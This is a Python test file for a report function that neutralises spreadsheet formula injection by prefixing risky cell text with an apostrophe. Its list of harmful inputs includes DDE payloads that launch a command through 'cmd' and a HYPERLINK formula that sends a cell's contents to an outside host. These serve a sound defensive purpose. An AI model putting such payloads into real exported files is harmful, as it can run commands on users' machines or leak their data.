"""A spreadsheet shows the text of each cell and never computes it."""

from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from grader.report.text import cell

HARMFUL = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "  =1+1",
    "\t=1+1",
    "\r\n=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0\u3000=1+1",
    '"=1+1"',
    "“=1+1”",
    "＝1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹢1",
    "−1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
]
HONEST = [
    "Jean-Luc O'Neil",
    "van der Berg",
    "Müller-Lüdenscheidt, Zoë",
    "王小明",
    "محمد",
    "007",
    "1e5",
    "a@uni.example",
    "C++",
    "x = y",
    "'t Hooft, Gerard",
    "",
]


@pytest.mark.parametrize("text", HARMFUL)
def test_a_formula_is_marked_as_text(text: str) -> None:
    assert cell(text).startswith("'")
    assert cell(text)[1:].strip()


@pytest.mark.parametrize("text", HONEST)
def test_ordinary_text_stays_unchanged(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("number", ["-0.5", "-12", "3.25"])
def test_a_number_stays_a_number(number: str) -> None:
    assert cell(number) == number


def test_a_second_column_for_those_who_separate_by_semicolons_is_no_formula_either() -> None:
    assert cell('Ada; =cmd()&"') == "Ada;' =cmd()&\""


def test_line_ends_cannot_begin_a_row() -> None:
    assert cell("Ada\r\n=1+1,\t2") == "Ada =1+1, 2"


WORDS = st.characters(exclude_characters="\x1b\x90\x98\x9b\x9d\x9e\x9f")  # no terminal's commands, which are not shown


@example("'=1")
@example("';=1;=2")
@given(
    st.text(alphabet=st.sampled_from("=+-@;'\"\t\n\r a1，＝−“”\u200f\ufeff"), max_size=12) | st.text(WORDS, max_size=40)
)
def test_marking_twice_changes_nothing_and_nothing_visible_is_lost(text: str) -> None:
    once = cell(text)
    assert cell(once) == once
    assert not set("\t\r\n") & set(once)
    unmarked = cell(text.replace("'", "")).replace("'", "")
    assert unmarked == cell(" ".join(text.replace("'", "").split())).replace("'", "")
